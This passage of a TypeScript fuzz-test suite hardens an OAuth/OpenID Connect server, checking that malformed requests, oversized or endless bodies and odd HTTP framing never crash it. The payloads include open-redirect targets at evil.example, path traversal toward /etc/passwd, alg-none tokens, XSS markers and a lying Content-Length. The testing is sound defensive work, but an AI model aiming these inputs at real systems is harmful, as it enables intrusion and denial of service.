        refreshTokens: tokens.map((x) => x.refresh_token),
        idTokens: tokens.map((x) => x.id_token),
        loginInteractions,
        consentInteractions,
        csrf: [csrfOf(consentHtml), csrfOf(loginHtml)],
        signedIn: cookie(agent),
        anonymous: cookie(anon),
      };
    };
    await renew();
  });
  after(async () => {
    await t.close();
    if (process.env['FUZZ_STATS'])
      console.log(
        [...seen]
          .sort()
          .map(([k, n]) => `${k}: ${n}`)
          .join('\n'),
      );
  });

  /** client_secret_post half the time (else the Authorization header, or nothing). */
  const clientAuth = (): Template => ({
    client_id: field([w.conf.id], [w.pub.id, 'unknown-client'], true),
    client_secret: field([w.conf.secret], ['wrong', ''], true),
  });

  it('GET/POST /authorize and /authorize/resume', async () => {
    await renew();
    const authorize: Template = {
      response_type: field(['code', 'token', 'id_token token'], ['code id_token', 'none', 'CODE']),
      client_id: field([w.conf.id], [w.pub.id, 'unknown-client']),
      redirect_uri: optional(w.redirectUris.slice(0, 2).concat('http://127.0.0.1:9999/callback?x=1'), [
        'https://spa.example/cb',
        'https://app.example/cb/',
      ]),
      scope: field(
        ['openid', 'openid email offline_access', 'openid profile email offline_access'],
        ['profile unknown_scope', 'openid\u0000'],
      ),
      state: optional(['st', XSS_MARKER, ATTR_MARKER]),
      nonce: optional(['n', XSS_MARKER]),
      code_challenge: optional([w.challenge], ['short']),
      code_challenge_method: optional(['S256'], ['plain', 's256']),
      prompt: optional(['none', 'login', 'consent'], ['none login', 'select_account x']),
      max_age: optional(['0', '3600'], ['-1', '1.5']),
      response_mode: optional(['query', 'fragment', 'form_post'], ['jwt', 'form_post.jwt']),
      login_hint: optional([w.user.email, XSS_MARKER]),
      resource: optional(['https://api.example/'], ['relative', 'https://api.example/#frag']),
      request: optional([], ['eyJhbGciOiJub25lIn0.e30.']),
    };
    const targets: Target[] = [
      { method: 'GET', path: '/authorize', cookie: w.signedIn, template: authorize },
      { method: 'POST', path: '/authorize', template: authorize },
      {
        method: 'GET',
        path: '/authorize/resume',
        cookie: w.signedIn,
        template: { interaction: field([...w.consentInteractions], w.loginInteractions) },
      },
    ];
    await property('authorize', requestsFor(w, targets), 700, w, 1);
  });

  it('POST /token with every grant', async () => {
    await renew();
    const base = clientAuth();
    const targets: Target[] = [
      {
        method: 'POST',
        path: '/token',
        template: {
          grant_type: ['client_credentials'],
          scope: optional([''], ['openid', 'x', '"']),
          resource: optional(['https://api.example/'], ['../x']),
          ...base,
        },
      },
      {
        method: 'POST',
        path: '/token',
        template: {
          grant_type: ['authorization_code'],
          code: field(w.codes, [...w.refreshTokens]),
          redirect_uri: field([w.redirectUris[0]!], w.redirectUris.slice(1)),
          code_verifier: field([w.verifier], ['short', 'x'.repeat(129)]),
          ...base,
        },
      },
      {
        method: 'POST',
        path: '/token',
        template: {
          grant_type: ['refresh_token'],
          refresh_token: field(w.refreshTokens, [...w.codes, ...w.accessTokens]),
          scope: optional(['openid', 'email', 'openid email offline_access'], ['profile', 'x']),
          ...base,
        },
      },
      {
        method: 'POST',
        path: '/token',
        template: {
          grant_type: ['password'],
          username: field([w.user.email], [w.user.email.toUpperCase(), 'nobody@example.test']),
          password: field([w.user.password], ['wrong password']),
          scope: optional(['openid offline_access', 'openid'], ['admin']),
          ...base,
        },
      },
      {
        method: 'POST',
        path: '/token',
        template: {
          grant_type: field(
            ['urn:latchkey:grant-type:mfa-otp', 'urn:ietf:params:oauth:grant-type:device_code'],
            ['implicit', 'x', 'token', 'urn:ietf:params:oauth:grant-type:jwt-bearer'],
          ),
          mfa_token: optional(['x']),
          method_id: optional(['x']),
          otp: optional(['123456']),
          device_code: optional(['x']),
          ...base,
        },
      },
    ];
    await property('token', requestsFor(w, targets), 700, w, 2);
  });

  it('POST /introspect and /revoke', async () => {
    await renew();
    const template: Template = {
      token: field([...w.accessTokens, ...w.refreshTokens], [...w.idTokens, ...w.codes, 'x']),
      token_type_hint: optional(['access_token', 'refresh_token'], ['id_token', 'x']),
      ...clientAuth(),
    };
    const targets: Target[] = [
      { method: 'POST', path: '/introspect', template },
      { method: 'POST', path: '/revoke', template },
    ];
    await property('introspect/revoke', requestsFor(w, targets), 500, w, 3);
  });

  it('POST /device_authorization', async () => {
    await renew();
    const targets: Target[] = [
      {
        method: 'POST',
        path: '/device_authorization',
        template: {
          scope: optional(['openid', 'openid email offline_access'], ['admin', '"', 'openid  openid']),
          ...clientAuth(),
        },
      },
    ];
    await property('device_authorization', requestsFor(w, targets), 300, w, 11);
  });

  it('GET/POST /userinfo', async () => {
    await renew();
    const template: Template = {
      access_token: optional(w.accessTokens, [...w.idTokens, ...w.refreshTokens, 'x']),
    };
    const targets: Target[] = [
      { method: 'GET', path: '/userinfo', template },
      { method: 'POST', path: '/userinfo', template },
    ];
    await property('userinfo', requestsFor(w, targets), 400, w, 4);
  });

  it('GET/POST /logout', async () => {
    await renew();
    const template: Template = {
      id_token_hint: optional(w.idTokens, ['a.b.c', 'eyJhbGciOiJub25lIn0.e30.', w.accessTokens[0]!]),
      client_id: optional([w.conf.id], [w.pub.id, 'unknown-client']),
      post_logout_redirect_uri: optional(w.logoutUris, [
        'https://evil.example/bye',
        'https://app.example/cb',
      ]),
      state: optional(['st', XSS_MARKER]),
      csrf: optional([w.csrf[0]!], [w.csrf[1]!]),
    };
    const targets: Target[] = [
      { method: 'GET', path: '/logout', cookie: w.signedIn, template },
      { method: 'POST', path: '/logout', cookie: w.signedIn, template },
    ];
    await property('logout', requestsFor(w, targets), 400, w, 5);
  });

  it('GET/POST /login and /consent, with and without interaction ids', async () => {
    await renew();
    const [signedInCsrf, anonCsrf] = w.csrf as [string, string];
    const returnTo = optional(
      ['/account', '/authorize?x=1'],
      ['//evil.example', '/\\evil.example', 'https://evil.example'],
    );
    const targets: Target[] = [
      {
        method: 'GET',
        path: '/login',
        cookie: w.anonymous,
        template: {
          interaction: optional(w.loginInteractions, ['x', ...w.consentInteractions]),
          return_to: returnTo,
        },
      },
      {
        method: 'POST',
        path: '/login',
        cookie: w.anonymous,
        query: {
          interaction: optional(w.loginInteractions, ['x', ...w.consentInteractions]),
          return_to: returnTo,
        },
        template: {
          email: field([w.user.email], ['nobody@example.test', XSS_MARKER]),
          password: field([w.user.password], ['wrong']),
          csrf: field([anonCsrf], [signedInCsrf]),
        },
      },
      {
        method: 'GET',
        path: '/consent',
        cookie: w.signedIn,
        template: { interaction: field(w.consentInteractions, ['x', ...w.loginInteractions]) },
      },
      {
        method: 'POST',
        path: '/consent',
        cookie: w.signedIn,
        query: { interaction: field(w.consentInteractions, ['x', ...w.loginInteractions]) },
        template: {
          csrf: field([signedInCsrf], [anonCsrf]),
          decision: field(['allow', 'deny'], ['maybe', 'ALLOW']),
        },
      },
    ];
    await property('login/consent', requestsFor(w, targets), 700, w, 6);
  });

  it('GET /account and its forms (revoke an app, sign out everywhere)', async () => {
    await renew();
    const [signedInCsrf, anonCsrf] = w.csrf as [string, string];
    const targets: Target[] = [
      {
        method: 'GET',
        path: '/account',
        cookie: w.signedIn,
        template: { notice: optional(['app_revoked'], ['x']) },
      },
      {
        method: 'POST',
        path: '/account/revoke',
        cookie: w.signedIn,
        template: {
          client_id: field([w.conf.id, w.pub.id], ['unknown-client']),
          csrf: field([signedInCsrf], [anonCsrf]),
        },
      },
    ];
    await property('account', requestsFor(w, targets), 300, w, 9);
    // Last, as it ends the session the requests above use.
    const signOut: Target = {
      method: 'POST',
      path: '/account/sign-out-everywhere',
      cookie: w.signedIn,
      template: { csrf: field([signedInCsrf], [anonCsrf]) },
    };
    await property('account sign-out', requestsFor(w, [signOut]), 60, w, 10);
  });

  it('discovery, JWKS, health, assets, unknown paths and odd methods', async () => {
    const paths = [
      '/.well-known/openid-configuration',
      '/.well-known/oauth-authorization-server',
      '/jwks',
      '/healthz',
      '/assets/latchkey.css',
      '/assets/form-post.js',
      '/',
      '/admin',
      '/account',
      '/device',
      '/device_authorization',
      '/login/mfa',
      '/federation/google/callback',
      '/token/',
      '/TOKEN',
      '//token',
      '/token/../jwks',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/assets/../../package.json',
      '/assets/..%2f..%2fpackage.json',
      '/authorize%00',
      '/%E0%A4%A',
      '/%zz',
      `/${encodeURIComponent(XSS_MARKER)}`,
    ];
    const arb = fc.record({
      method: fc.oneof(fc.constantFrom('GET', 'GET', 'POST'), oddMethods),
      path: fc.oneof(
        { weight: 5, arbitrary: fc.constantFrom(...paths) },
        { weight: 2, arbitrary: fc.webPath() },
        { weight: 1, arbitrary: fc.string({ maxLength: 30 }).map((s) => `/${encodeURIComponent(s)}`) },
      ),
      query: paramsArb({}),
      queryEncoding: encodings,
      params: paramsArb({}),
      body: fc.option(bodies, { freq: 3, nil: undefined }),
      encoding: encodings,
      headers: headersArb(w),
    });
    await property('static/unknown', arb, 400, w, 7);
  });

  it('huge bodies (> 64 KiB, with and without content-length) at every POST endpoint', async () => {
    const posts = [
      '/authorize',
      '/token',
      '/device_authorization',
      '/introspect',
      '/revoke',
      '/userinfo',
      '/logout',
      '/login',
      '/consent',
    ];
    const arb = fc.record({
      method: fc.constant('POST'),
      path: fc.constantFrom(...posts),
      query: fc.constantFrom<Pairs | undefined>(undefined, [['interaction', w.consentInteractions[0]!]]),
      queryEncoding: fc.constant<Encoding>('proper'),
      params: paramsArb({ grant_type: ['client_credentials'], ...clientAuth(), token: optional(['x']) }),
      body: fc.record({
        contentType: fc.constantFrom('application/x-www-form-urlencoded', 'application/json', undefined),
        payload: fc
          .constantFrom(65_537, 70_000, 500_000, 2_000_000)
          .map((n): Payload => ({ kind: 'huge', n })),
        chunked: fc.boolean(),
        contentLength: fc.constantFrom(undefined, undefined, '10', '0'),
      }),
      encoding: fc.constant<Encoding>('proper'),
      headers: headersArb(w),
    });
    await property('huge bodies', arb, 120, w, 8);
  });

  it('reached the success paths too, not only the parsers', () => {
    // A fuzzer that only ever meets its first `400` proves little: the well-formed third of the
    // requests must have gone through every layer to a success somewhere.
    const count = (prefix: string) =>
      [...seen].filter(([k]) => k.startsWith(prefix)).reduce((n, [, v]) => n + v, 0);
    for (const key of [
      'POST /token 200',
      'GET /authorize 303',
      'POST /authorize 303',
      'GET /authorize/resume 303',
      'POST /introspect 200',
      'POST /revoke 200',
      'GET /userinfo 200',
      'POST /userinfo 200',
      'GET /login 200',
      'POST /login 303',
      'GET /consent 200',
      'POST /consent 303',
      'GET /logout 200',
      'GET /account 200',
      'POST /account/revoke 303',
      'GET /.well-known/openid-configuration 200',
      'GET /jwks 200',
    ]) {
      assert.ok(count(key) > 0, `no "${key}" answer in the storm`);
    }
    const total = [...seen].filter(([k]) => !k.startsWith(' ')).reduce((n, [, v]) => n + v, 0);
    assert.ok(total >= runs(3900), `only ${total} requests were sent`);
  });

  it('stops reading an endless streamed body at 64 KiB instead of buffering it', async () => {
    // A chunked body has no content-length to refuse up front: the reader must stop at the limit, or
    // any client can make the server buffer gigabytes per request.
    for (const path of ['/token', '/introspect', '/revoke', '/userinfo', '/authorize', '/logout', '/login']) {
      let pulled = 0;
      const body = new ReadableStream<Uint8Array>({
        async pull(ctl) {
          await new Promise((r) => setImmediate(r));
          if (pulled >= 32 * 1024 * 1024) return ctl.close();
          pulled += 16 * 1024;
          ctl.enqueue(new TextEncoder().encode('a='.padEnd(16 * 1024, 'x')));
        },
      });
      const res = await t.app.request(
        new Request(new URL(path, t.issuer), {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body,
          duplex: 'half',
        } as RequestInit),
      );
      assert.ok(res.status === 400 || res.status === 413, `${path}: ${res.status} ${await res.text()}`);
      assert.ok(pulled <= 256 * 1024, `${path}: ${pulled} bytes were read to refuse a body over 64 KiB`);
    }
  });

  it('answers /healthz and a valid client_credentials request after the storm', async () => {
    const health = await t.request('/healthz');
    assert.equal(health.status, 200);
    assert.deepEqual(await health.json(), { status: 'ok' });
    const res = await t.request(
      '/token',
      form({ grant_type: 'client_credentials' }, { authorization: basic(w.conf.id, w.conf.secret) }),
    );
    assert.equal(res.status, 200);
    const body = (await res.json()) as { access_token: string; token_type: string };
    assert.equal(body.token_type, 'Bearer');
    const introspected = await t.request(
      '/introspect',
      form({ token: body.access_token }, { authorization: basic(w.conf.id, w.conf.secret) }),
    );
    assert.equal(((await introspected.json()) as { active: boolean }).active, true);
    const discovery = await t.request('/.well-known/openid-configuration');
    assert.equal(discovery.status, 200);
  });
});

// ---------------------------------------------------------------------------------------------
// Over the wire: what `app.request` cannot express (a GET with a body, framing that lies, raw bytes in
// headers) reaches the real server through a socket.

interface RawResponse {
  status: number;
  headers: Map<string, string>;
  body: string;
}

/** Writes raw bytes and reads the first response (the request asks for `Connection: close`). */
function raw(port: number, chunks: (string | Buffer)[], timeoutMs = 10_000): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1');
    const received: Buffer[] = [];
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error('no answer in time'));
    }, timeoutMs);
    const finish = () => {
      clearTimeout(timer);
      let text = Buffer.concat(received).toString('latin1');
      // Skip interim answers (100 Continue).
      while (/^HTTP\/1\.[01] 1\d\d/.test(text) && text.includes('\r\n\r\n'))
        text = text.slice(text.indexOf('\r\n\r\n') + 4);
      const end = text.indexOf('\r\n\r\n');
      const m = /^HTTP\/1\.[01] (\d{3})/.exec(text);
      if (!m || end < 0)
        return reject(new Error(`not an HTTP response: ${JSON.stringify(text.slice(0, 200))}`));
      const headers = new Map<string, string>();
      for (const line of text.slice(0, end).split('\r\n').slice(1)) {
        const colon = line.indexOf(':');
        headers.set(line.slice(0, colon).trim().toLowerCase(), line.slice(colon + 1).trim());
      }
      resolve({ status: Number(m[1]), headers, body: text.slice(end + 4) });
    };
    socket.on('data', (d) => received.push(d));
    socket.on('end', finish);
    socket.on('close', finish);
    // The server may answer (413) and close before the whole body is written.
    socket.on('error', () => undefined);
    socket.on('connect', async () => {
      for (const c of chunks) {
        if (socket.destroyed) break;
        socket.write(c);
        await new Promise((r) => setImmediate(r));
      }
    });
  });
}

const sleepMs = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));

const chunked = (body: string, size = 8192): string => {
  let out = '';
  for (let i = 0; i < body.length; i += size) {
    const part = body.slice(i, i + size);
    out += `${Buffer.byteLength(part).toString(16)}\r\n${part}\r\n`;
  }
  return `${out}0\r\n\r\n`;
};

describe('fuzz: malformed HTTP over a real socket', { timeout: 120_000 }, () => {
  let srv: TestServer;
  let port: number;
  let client: { id: string; secret?: string };
  /** Answers given before the app ran (empty, no security headers: nothing to frame). */
  let parserRejections = 0;

  before(async () => {
    srv = await startTestServer({ LATCHKEY_THROTTLE: 'off' });
    port = srv.server.port;
    client = await srv.addClient({ grants: ['client_credentials'] });
  });
  after(async () => {
    await srv.close();
  });

  const check = (res: RawResponse, what: string) => {
    assert.ok(res.status < 500, `${what} -> ${res.status} ${res.body.slice(0, 200)}`);
    // Node's HTTP parser (`400 Bad Request`, `431`) and @hono/node-server (a request target it cannot
    // turn into a URL: `GET *`, `Host: [`) answer before the app runs: empty, no content type, none of
    // the app's headers. Every answer of the app has a content type or a security header.
    const body = res.body.replace(/^0\r\n\r\n$/, '');
    const outsideApp =
      !res.headers.has('content-type') && !res.headers.has('x-content-type-options') && !body;
    if (outsideApp) {
      parserRejections++;
      assert.ok([400, 413, 414, 431].includes(res.status), `${what} -> ${res.status}`);
      return;
    }
    assert.equal(res.headers.get('x-frame-options'), 'DENY', what);
    assert.match(res.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/, what);
    if (res.status >= 400 && res.body && (res.headers.get('content-type') ?? '').includes('json')) {
      const body = JSON.parse(res.body) as { error?: string };
      assert.ok(body.error && OAUTH_ERROR_CODES.has(body.error), `${what} -> ${res.body.slice(0, 200)}`);
    }
  };
  const head = (lines: string[]) => `${lines.join('\r\n')}\r\n\r\n`;
  const okForm = () => `grant_type=client_credentials&client_id=${client.id}&client_secret=${client.secret}`;

  it('a GET with a body is answered as a GET', async () => {
    const res = await raw(port, [
      head([
        'GET /.well-known/openid-configuration HTTP/1.1',
        'Host: 127.0.0.1',
        'Content-Length: 11',
        'Connection: close',
      ]) + 'hello=world',
    ]);
    check(res, 'GET discovery with a body');
    assert.equal(res.status, 200);
    assert.equal((JSON.parse(res.body) as { issuer: string }).issuer, srv.issuer);
  });

  it('refuses a chunked body over 64 KiB without content-length, and one with a lying content-length', async () => {
    const big = `${okForm()}&pad=${'p'.repeat(300_000)}`;
    const res = await raw(port, [
      head([
        'POST /token HTTP/1.1',
        'Host: 127.0.0.1',
        'Content-Type: application/x-www-form-urlencoded',
        'Transfer-Encoding: chunked',
        'Connection: close',
      ]),
      chunked(big),
    ]);
    check(res, 'chunked 300 KB');
    assert.ok(res.status === 400 || res.status === 413, `chunked 300 KB -> ${res.status}`);

    const declared = await raw(port, [
      head([
        'POST /token HTTP/1.1',
        'Host: 127.0.0.1',
        'Content-Type: application/x-www-form-urlencoded',
        'Content-Length: 99999999',
        'Connection: close',
      ]),
      'grant_type=client_credentials',
    ]);
    check(declared, 'content-length 99999999');
    assert.ok(
      declared.status === 400 || declared.status === 413,
      `content-length 99999999 -> ${declared.status}`,
    );

    const small = await raw(port, [
      head([
        'POST /token HTTP/1.1',
        'Host: 127.0.0.1',
        'Content-Type: application/x-www-form-urlencoded',
        'Transfer-Encoding: chunked',
        'Connection: close',
      ]),
      chunked(okForm(), 7),
    ]);
    check(small, 'chunked small');
    assert.equal(small.status, 200, `a small chunked form is fine: ${small.body}`);
  });

  it('answers an endless chunked body before its end, without reading it whole', async () => {
    const socket = connect(port, '127.0.0.1');
    let sent = 0;
    let answer = '';
    const answered = new Promise<void>((resolve) => {
      socket.on('data', (d) => {
        answer += d.toString('latin1');
        if (answer.includes('\r\n\r\n')) resolve();
      });
      socket.on('close', () => resolve());
      socket.on('error', () => resolve());
    });
    await new Promise<void>((r) => socket.once('connect', () => r()));
    socket.write(
      head([
        'POST /token HTTP/1.1',
        'Host: 127.0.0.1',
        'Content-Type: application/x-www-form-urlencoded',
        'Transfer-Encoding: chunked',
      ]),
    );
    const chunk = chunked('x'.repeat(64 * 1024), 64 * 1024).replace(/0\r\n\r\n$/, '');
    let done = false;
    void answered.then(() => {
      done = true;
    });
    // Up to 64 MiB, as fast as the socket takes it; the answer must come long before that.
    while (!done && sent < 64 * 1024 * 1024 && !socket.destroyed) {
      if (!socket.write(chunk))
        await new Promise<void>((r) => socket.once('drain', () => r()).once('close', () => r()));
      sent += 64 * 1024;
      await new Promise((r) => setImmediate(r));
    }
    await Promise.race([answered, sleepMs(5_000)]);
    socket.destroy();
    const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]);
    assert.ok(
      status === 400 || status === 413,
      `an endless body got ${JSON.stringify(answer.slice(0, 120))} after ${sent} bytes`,
    );
    assert.ok(sent < 16 * 1024 * 1024, `the server read ${sent} bytes before answering`);
  });

  it('survives a storm of raw requests with odd framing and header bytes', async () => {
    const lines = fc.record({
      method: fc.oneof(
        { weight: 9, arbitrary: fc.constantFrom('GET', 'POST', 'POST', 'PUT', 'OPTIONS', 'HEAD', 'DELETE') },
        { weight: 1, arbitrary: fc.constantFrom('BREW', 'get') },
      ),
      path: fc.constantFrom(
        '/token',
        '/introspect',
        '/revoke',
        '/userinfo',
        '/authorize?client_id=x',
        '/login',
        '/consent?interaction=x',
        '/logout',
        '/jwks',
        '/healthz',
        '/.well-known/openid-configuration',
        '*',
        'http://evil.example/token',
        '/%zz',
        '/a/../../token',
        `/${'a'.repeat(3000)}`,
      ),
      version: fc.oneof(
        { weight: 9, arbitrary: fc.constantFrom('HTTP/1.1', 'HTTP/1.0') },
        { weight: 1, arbitrary: fc.constant('HTTP/1.2') },
      ),
      headers: fc.array(
        fc.oneof(
          {
            weight: 8,
            arbitrary: fc.constantFrom(
              'Content-Type: application/x-www-form-urlencoded',
              'Content-Type: application/x-www-form-urlencoded',
              'Content-Type: application/x-www-form-urlencoded; charset=latin1',
              'Content-Type: text/plain',
              'Content-Type: multipart/form-data; boundary=x',
              `Authorization: ${basic(client.id, client.secret!)}`,
              'Authorization: Basic \u00ff\u00fe',
              'Authorization: Bearer \u00e9',
              'Cookie: lk_browser=\u00ff; lk_session=\u0080',
              `Cookie: lk_session=${'c'.repeat(8_000)}`,
              'X-Forwarded-For: 1.2.3.4, <script>',
              'Accept: text/html',
              'Expect: 100-continue',
              'Transfer-Encoding: identity',
            ),
          },
          {
            // Framing and syntax the HTTP parser itself refuses.
            weight: 1,
            arbitrary: fc.constantFrom(
              'Content-Length: 5',
              'Content-Length: 5, 6',
              'Content-Length: -1',
              'Transfer-Encoding: gzip, chunked',
              'Header-Without-Value',
              ' leading-space: x',
              `X-Big: ${'b'.repeat(70_000)}`,
            ),
          },
          {
            weight: 2,
            arbitrary: fc
              .string({
                // Visible ASCII and obs-text: what a field value may hold (RFC 9110 §5.5).
                unit: fc
                  .oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }))
                  .map((c) => String.fromCharCode(c)),
                maxLength: 30,
              })
              .map((v) => `X-Junk: ${v}`),
          },
        ),
        { maxLength: 4 },
      ),
      body: fc.oneof(
        fc.constant(''),
        fc.constant(okForm()),
        fc.string({ unit: 'binary-ascii', maxLength: 60 }),
        fc.constant('grant_type=client_credentials&x=%ff%fe'),
      ),
      framing: fc.constantFrom('length', 'length', 'chunked', 'none'),
    });
    await checkProperty(
      'raw requests',
      lines,
      async (r) => {
        const hs = [
          `${r.method} ${r.path} ${r.version}`,
          'Host: 127.0.0.1',
          ...r.headers,
          'Connection: close',
        ];
        const body = Buffer.from(r.body, 'latin1');
        if (r.framing === 'length' && !r.headers.some((h) => /^content-length|^transfer-encoding/i.test(h)))
          hs.push(`Content-Length: ${body.length}`);
        if (r.framing === 'chunked') hs.push('Transfer-Encoding: chunked');
        const payload =
          r.framing === 'chunked' ? chunked(r.body) : r.framing === 'length' ? body : Buffer.alloc(0);
        const res = await raw(port, [Buffer.from(head(hs), 'latin1'), payload], 5_000).catch((err: Error) => {
          // A lying Content-Length can leave the server waiting for bytes that never come: not an answer
          // we can check, and not a fault either (the socket times out on both sides).
          if (/no answer in time/.test(err.message) && r.headers.some((h) => /content-length: 5/i.test(h)))
            return undefined;
          throw err;
        });
        if (res)
          check(
            res,
            `${r.method} ${r.path.slice(0, 60)} ${r.version} ${JSON.stringify(r.headers.map((h) => h.slice(0, 60)))}`,
          );
      },
      200,
      100,
    );
  });

  it('still answers /healthz and a valid token request afterwards', async () => {
    const health = await fetch(`${srv.url}/healthz`);
    assert.equal(health.status, 200);
    const res = await fetch(
      `${srv.url}/token`,
      form({ grant_type: 'client_credentials' }, { authorization: basic(client.id, client.secret!) }),
    );
    assert.equal(res.status, 200);
    if (process.env['FUZZ_STATS']) console.log(`answers given before the app ran: ${parserRejections}`);
  });
});
